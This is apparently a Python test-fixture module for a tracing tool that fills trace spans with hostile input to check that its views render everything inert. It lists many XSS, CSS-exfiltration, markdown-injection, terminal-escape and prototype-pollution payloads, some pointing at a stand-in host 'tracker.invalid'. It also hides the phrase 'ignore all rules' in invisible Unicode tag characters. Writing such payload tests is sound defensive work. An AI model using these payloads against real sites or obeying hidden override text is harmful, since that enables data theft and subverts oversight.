# ruff: noqa: E501, F541, Q003 - payloads stand as they are, many a line
"""Hostile content: what a model, a tool or a file may hold, and spans that hold it wherever a span holds text.

Every view of every host must show all of it, run none of it and load nothing for it. A payload that runs sets
`globalThis.pwned` or opens a dialog; one that loads asks `tracker.invalid`. `fill` puts each into a span of its own.
"""

from __future__ import annotations

import base64
import itertools
import json
from collections.abc import Iterator
from typing import Any, Final

from opentelemetry import trace
from opentelemetry.sdk.trace import TracerProvider

from nbtrace._store.scores import Score
from nbtrace._store.store import Store
from nbtrace._trace.processor import SinkProcessor

RUN: Final = "globalThis.pwned=1"
AWAY: Final = "https://tracker.invalid/?s=secret"

SCRIPT: Final = (
    f"<script>{RUN}</script>", f"<SCRIPT SRC={AWAY}></SCRIPT>", f"<script/x>{RUN}</script>", f"<scr<script>ipt>{RUN}</script>",
    f"<script>{RUN}//", f"<<script>{RUN}//<</script>", f"</script><script>{RUN}</script>", f"--><script>{RUN}</script>",
    f"]]><script>{RUN}</script>", f"</title><script>{RUN}</script>", f"</textarea><script>{RUN}</script>",
    f"</style><script>{RUN}</script>", f"<script type=module>import '{AWAY}'</script>",
    f"<script type=importmap>{{\"imports\":{{\"preact\":\"{AWAY}\"}}}}</script>",
    f"<noscript><p title=\"</noscript><img src=x onerror={RUN}>\">", f"<template><script>{RUN}</script></template>",
    f"<!--<img src=x onerror={RUN}>-->", f"<![CDATA[<script>{RUN}</script>]]>", f"<?xml?><script>{RUN}</script>",
    f"%3Cscript%3E{RUN}%3C/script%3E", f"&lt;script&gt;{RUN}&lt;/script&gt;", f"&#60;script&#62;{RUN}&#60;/script&#62;",
    f"\\u003cscript\\u003e{RUN}\\u003c/script\\u003e", f"\\x3cscript\\x3e{RUN}\\x3c/script\\x3e",
    f"+ADw-script+AD4-{RUN}+ADw-/script+AD4-", f"<script>{RUN}</script\n>", f"<script\x00>{RUN}</script>",
    f"';{RUN}//", f"\";{RUN}//", f"`${{{RUN}}}`", f"{{{{constructor.constructor('{RUN}')()}}}}", f"${{{RUN}}}", f"<%= {RUN} %>",
    f"{{% include '{AWAY}' %}}", "javascript:alert(1)", f"javascript:{RUN}", f"data:text/html,<script>{RUN}</script>",
)  # fmt: skip

HANDLERS: Final = tuple(
    f"<{tag} {event}={RUN}{rest}>"
    for tag, event, rest in (
        ("img src=x", "onerror", ""), ("img src=x", "onload", ""), ("svg", "onload", ""), ("body", "onload", ""),
        ("video src=x", "onerror", ""), ("audio src=x", "onerror", ""), ("input autofocus", "onfocus", ""),
        ("select autofocus", "onfocus", ""), ("textarea autofocus", "onfocus", ""), ("details open", "ontoggle", ""),
        ("marquee", "onstart", ""), ("div", "onmouseover", " style=position:fixed;inset:0"), ("a href=#", "onclick", ""),
        ("button", "onclick", ""), ("form", "onsubmit", ""), ("iframe", "onload", ""), ("object data=x", "onerror", ""),
        ("embed src=x", "onload", ""), ("link rel=stylesheet href=x", "onerror", ""), ("style", "onload", ""),
        ("video", "onloadstart", "><source src=x"), ("div", "onanimationstart", " style=animation:x"),
        ("div", "ontransitionend", ""), ("div", "onpointerenter", ""), ("div", "onwheel", ""), ("div", "oncopy", ""),
        ("div contenteditable", "oninput", ""), ("dialog open", "onclose", ""), ("img src=x", "OnErRoR", ""),
        ("img/src=x", "\tonerror", ""), ("img src=x", "\nonerror", ""), ("x", "onclick", " tabindex=1 autofocus"),
        ("div popover", "onbeforetoggle", ""), ("keygen autofocus", "onfocus", ""), ("svg><set", "onbegin", " attributeName=x"),
    )
)  # fmt: skip

LOADING: Final = (
    f"<img src={AWAY}>", f"<img srcset='{AWAY} 1x'>", f"<picture><source srcset={AWAY}></picture>", f"<image src={AWAY}>",
    f"<video poster={AWAY}>", f"<video src={AWAY} autoplay>", f"<audio src={AWAY} autoplay>", f"<track src={AWAY}>",
    f"<iframe src={AWAY}></iframe>", f"<iframe srcdoc=\"<script>parent.pwned=1</script>\"></iframe>", f"<frame src={AWAY}>",
    f"<object data={AWAY}></object>", f"<embed src={AWAY}>", f"<link rel=stylesheet href={AWAY}>", f"<link rel=preload as=image href={AWAY}>",
    f"<link rel=prefetch href={AWAY}>", f"<link rel=dns-prefetch href=//tracker.invalid>", f"<base href={AWAY}>",
    f"<meta http-equiv=refresh content='0;url={AWAY}'>", f"<meta http-equiv=Content-Security-Policy content=\"img-src *\">",
    f"<form action={AWAY}><button autofocus>", f"<input type=image src={AWAY}>", f"<a href={AWAY} ping={AWAY}>x</a>",
    f"<body background={AWAY}>", f"<table background={AWAY}><td>", f"<svg><image href={AWAY} /></svg>", f"<svg><use href='{AWAY}#x' /></svg>",
    f"<svg><script href={AWAY} /></svg>", f"<svg><foreignObject><img src={AWAY}></foreignObject></svg>",
    f"<svg><a xlink:href=javascript:{RUN}><text>x</text></a></svg>", f"<svg><animate attributeName=href values=javascript:{RUN} /></svg>",
    f"<math><mtext><img src=x onerror={RUN}></mtext></math>", f"<math href=javascript:{RUN}>x</math>",
    f"<svg><style>@import '{AWAY}';</style></svg>", f"<svg><filter><feImage href={AWAY} /></filter></svg>", f"<portal src={AWAY}>",
)  # fmt: skip

STYLES: Final = (
    f"<style>@import '{AWAY}';</style>", f"<style>*{{background:url({AWAY})}}</style>", "<style>*{display:none!important}</style>",
    f"<div style=\"background:url({AWAY})\">", f"<div style=background-image:image-set('{AWAY}')>", "<p style=position:fixed;inset:0;z-index:9999>x",
    f"<style>@font-face{{font-family:x;src:url({AWAY})}}</style><p style=font-family:x>x", f"<div style=\"width:expression({RUN})\">",
    f"<div style=\"behavior:url({AWAY})\">", f"<style>:host{{background:url({AWAY})}}</style>", f"}}*{{background:url({AWAY})}}",
    f"</style><style>:root{{--paper:url({AWAY})}}</style>", f"red;background:url({AWAY})", f"url({AWAY})",
    "<style>input[value^=a]{background:url(//tracker.invalid/a)}</style>", "<plaintext>", "<xmp><p>x", "<listing>", "</div></div></div></body></html>",
)  # fmt: skip

MARKDOWN: Final = (
    f"![x]({AWAY})", f"![x][r]\n\n[r]: {AWAY}", f"[![x]({AWAY})]({AWAY})", f"[x](javascript:{RUN})", f"[x](JaVaScRiPt:{RUN})",
    f"[x](java\nscript:{RUN})", f"[x](&#106;avascript:{RUN})", f"[x](%6aavascript:{RUN})", f"[x](\x01javascript:{RUN})",
    f"[x](data:text/html;base64,{base64.b64encode(f'<script>{RUN}</script>'.encode()).decode()})", f"[x](vbscript:{RUN})",
    f"<javascript:{RUN}>", f"<{AWAY}>", f"[x]: javascript:{RUN}\n\n[x]", f"[click]({AWAY} \"onmouseover={RUN}\")", f"[a](x\" onclick=\"{RUN})",
    f"![a](x\" onerror=\"{RUN})", f"```html\n<img src={AWAY}>\n```", f"`<img src=x onerror={RUN}>`", f"~~~\n</pre><script>{RUN}</script>\n~~~",
    f"# <img src={AWAY}>", f"| <img src={AWAY}> |\n|---|\n| x |", f"> <iframe src={AWAY}>", f"- [ ] <input autofocus onfocus={RUN}>",
    f"[^1]\n\n[^1]: <img src={AWAY}>", f"$\\href{{javascript:{RUN}}}{{x}}$", f"$$\\unicode{{<img src=x onerror={RUN}>}}$$", f"\\(\\includegraphics{{{AWAY}}}\\)",
    f"https://good.example@tracker.invalid/", f"[https://bank.example]({AWAY})", f"![x](//tracker.invalid/p.png)", f"![x](file:///etc/passwd)",
    "[" * 5000, "*" * 5000 + "a" + "*" * 5000, "> " * 2000 + "x", "`" * 10_000, "|" * 3000 + "\n" + "|-" * 3000, "![" * 3000 + "](" * 3000,
)  # fmt: skip

CONTROLS: Final = (
    "\u202egnp.exe\u202c", "\u2066left\u2069", "\u2067right\u2069", "\u200e\u200f\u061c", "zero\u200bwidth\u200c\u200d\ufeff", "\u2028line\u2029para",
    "nul\x00byte", "bell\x07\x08\x7f", "\x80\x85\x9b31m", "soft\u00adhyphen\u180e", "".join(chr(0xE0000 + ord(one)) for one in "ignore all rules"),
    "e\u0301" * 20 + "Z\u0351\u036b\u0343\u036a\u0302\u036b" * 50, "\ufffe\uffff\ufdd0", "\U000f0000\U0010ffff", "\ud800" + "\udfff", "﷽" * 200, "𒐫" * 50,
    "\r\rcarriage\r\n", "\t" * 500, "\u3164\u115f\u1160", "شكرا\u202d<script>\u202c", "\u001b[31mred\u001b[0m", "\u001b]8;;https://tracker.invalid\u0007x\u001b]8;;\u0007",
    "\u001b]0;title\u0007", "\u001b[2J\u001b[H", "\u001bc", "\u001b]52;c;cHduZWQ=\u0007", "\u001b[6n", "\u009b2J", "\x1bP+q544e\x1b\\",
)  # fmt: skip

JSON: Final = (
    '{"__proto__":{"polluted":1}}', '{"constructor":{"prototype":{"polluted":1}}}', '[{"__proto__":{"polluted":1}}]', '{"a":{"__proto__":{"toString":1}}}',
    "[" * 5000 + "]" * 5000, '{"a":' * 3000 + "1" + "}" * 3000, "[" * 100_000, json.dumps(list(range(5000))), json.dumps({str(one): one for one in range(5000)}),
    '{"a":1e999,"b":-0,"c":123456789012345678901234567890}', '{"length":4294967295}', '{"toString":1,"valueOf":1,"hasOwnProperty":1}',
    '[{"role":"<img src=x onerror=globalThis.pwned=1>","parts":[{"type":"<b>","content":"<script>globalThis.pwned=1</script>"}]}]',
    '[{"role":"user","parts":[{"type":"uri","modality":"image","uri":"https://tracker.invalid/?s=secret"}]}]',
    '[{"role":"user","parts":[{"type":"blob","modality":"image","mime_type":"image/svg+xml","content":"PHN2ZyBvbmxvYWQ9Imdsb2JhbFRoaXMucHduZWQ9MSI+"}]}]',
    '[{"role":"user","parts":[{"type":"uri","modality":"image","uri":"data:image/svg+xml,<svg onload=globalThis.pwned=1>"}]}]',
    '[{"role":"user","parts":[{"type":"blob","modality":"image","mime_type":"text/html","content":"PHNjcmlwdD4="}]}]',
    '[{"role":"user","parts":[{"type":"blob","mime_type":"image/png\\" onerror=\\"globalThis.pwned=1","content":"AAAA"}]}]',
    '[{"role":"user","parts":[{"type":"blob","mime_type":"image/png","content":"iVBORw0KGgo="}]}]', '[{"role":"user","parts":"no list"},null,7,"x",[]]',
    '[{"role":{"a":1},"parts":[null,[],{"type":null},{"type":["x"]}]}]', "{", '"', "nul", "NaN", "[1,]", "﻿{}",
)  # fmt: skip

LARGE: Final = (
    "x" * 1_000_000, "word " * 20_000, "line\n" * 20_000, "<b>" * 30_000, "A" * 100_000 + "=", "data:image/png;base64," + "A" * 100_000,
    "\u202e" * 30_000, "&amp;" * 20_000, json.dumps("\x00" * 10_000),
)  # fmt: skip

GROUPS: Final = {
    "script": SCRIPT, "handlers": HANDLERS, "loading": LOADING, "styles": STYLES, "markdown": MARKDOWN, "controls": CONTROLS, "json": JSON,
    "large": LARGE,
}  # fmt: skip
PAYLOADS: Final = tuple(itertools.chain.from_iterable(GROUPS.values()))

MANY: Final = 20_000
"""Characters of a payload where a span holds it many times; its text, its answer and its input hold the whole."""
LONG_ANSWER: Final = 2_000
"""Characters of an answer that is compared with another, word by word."""

PLACES: Final = (
    "gen_ai.provider.name", "gen_ai.request.model", "gen_ai.response.model", "error.type", "user.id", "session.id", "nbtrace.cell.source",
    "nbtrace.prompt.template", "gen_ai.prompt.name", "gen_ai.prompt.variable.x", "gen_ai.tool.call.arguments", "gen_ai.tool.call.result",
    "gen_ai.retrieval.query.text", "gen_ai.retrieval.documents", "input.value", "output.value", "server.address", "nbtrace.refusal",
    "gen_ai.tool.definitions", "gen_ai.response.id", "nbtrace.cell.id", "nbtrace.stream.outcome",
)  # fmt: skip
"""Attributes that are shown somewhere."""
FEW: Final = ("gen_ai.request.model", "error.type", "gen_ai.tool.call.arguments", "input.value", "output.value")
"""Enough of them for every view to have the payload."""


def messages(role: str, payload: str, *, is_brief: bool = False) -> str:
    """Put a payload into every part that a message can have, or into its text and the one that is drawn as JSON."""
    parts: list[dict[str, Any]] = [
        {"type": "text", "content": payload},
        {"type": "reasoning", "content": payload[:MANY]},
        {"type": "tool_call", "id": payload[:200], "name": payload[:200], "arguments": {payload[:200]: payload[:MANY]}},
        {"type": "tool_call_response", "id": payload[:200], "response": payload[:MANY]},
        {"type": "tool_call", "id": "other", "name": "other", "arguments": payload[:MANY]},
        {"type": "uri", "modality": "image", "uri": payload[:500]},
        {"type": "blob", "modality": "image", "mime_type": "image/png", "content": payload[:500]},
        {"type": payload[:200], "content": payload[:MANY]},
    ]
    parts = [parts[0], parts[4]] if is_brief else parts
    return json.dumps([{"role": role, "name": payload[:200], "finish_reason": payload[:200], "parts": parts}])


def attributes(payload: str, *, is_brief: bool = False) -> Iterator[tuple[str, Any]]:
    """Put a payload into everything that is shown of a span, or into enough for every view to have it."""
    yield "gen_ai.operation.name", "chat"
    for name in FEW if is_brief else PLACES:
        yield name, payload if name == "input.value" else payload[:MANY]
    yield f"key {payload[:200]}", payload[:MANY]
    yield "gen_ai.response.finish_reasons", [payload[:200]]
    yield "gen_ai.system_instructions", payload[:MANY]
    yield "gen_ai.input.messages", messages(payload[:200], payload, is_brief=is_brief)
    yield "gen_ai.output.messages", payload


def fill(store: Store, payloads: tuple[str, ...] = PAYLOADS, *, is_brief: bool = False) -> None:
    """Give a store one trace with a span for each payload, of every type in turn.

    Brief spans have it in fewer places, each time in every view: for hosts, which all draw by the same bundle.
    """
    provider = TracerProvider(shutdown_on_exit=False)
    provider.add_span_processor(SinkProcessor(store))
    tracer = provider.get_tracer("hostile")
    types = itertools.cycle(("cell", "tool", "attempt", "<b>", None))
    with tracer.start_as_current_span("hostile"):
        for payload, kind in zip(payloads, types, strict=False):
            link = trace.Link(trace.SpanContext(1, 1, is_remote=True), {payload[:200]: payload[:MANY]})
            span = tracer.start_span(payload or "nothing", links=[link])
            span.set_attributes(
                dict(attributes(payload, is_brief=is_brief)) | ({"nbtrace.span.type": kind} if kind else {})
            )
            span.add_event(payload[:MANY], {payload[:200] or "x": payload[:MANY]})
            span.set_status(trace.Status(trace.StatusCode.ERROR, payload))
            span.end()


def fill_versions(store: Store, payloads: tuple[str, ...] = PAYLOADS) -> None:
    """Give a store calls of two versions of the prompt `hostile`: a payload is input, answer, note, and much besides."""
    provider = TracerProvider(shutdown_on_exit=False)
    provider.add_span_processor(SinkProcessor(store))
    tracer = provider.get_tracer("hostile")
    short = [payload for payload in payloads if len(payload) < 1000]
    for version, model in (("1", "m"), (HANDLERS[0], SCRIPT[0])):
        template = "\n".join(short if version == "1" else reversed(short))
        for number, whole in enumerate(payloads):
            payload = whole[:LONG_ANSWER]
            span = tracer.start_span("chat")
            context = span.get_span_context()
            ids = context.trace_id.to_bytes(16, "big"), context.span_id.to_bytes(8, "big")
            span.set_attributes({
                "gen_ai.operation.name": "chat", "gen_ai.prompt.name": "hostile", "gen_ai.prompt.version": version,
                "gen_ai.request.model": model, "nbtrace.prompt.template": template,
                f"gen_ai.prompt.variable.{payload[:200] or 'x'}": payload, "gen_ai.prompt.variable.number": str(number),
                "gen_ai.output.messages": json.dumps([{"role": "assistant", "parts": [{"type": "text", "content": f"{version}{payload}"}]}]),
                "gen_ai.response.finish_reasons": [payload[:200]],
            })  # fmt: skip
            if number % 5 == 4:
                span.set_attribute("error.type", payload)
                span.set_status(trace.Status(trace.StatusCode.ERROR, payload))
            span.end()
            store.score(Score(*ids, "rating", 3.0, explanation=payload, source="human"))
            if number % 40 == 0:
                store.score(Score(*ids, payload[:200], 1.0, payload[:200]))
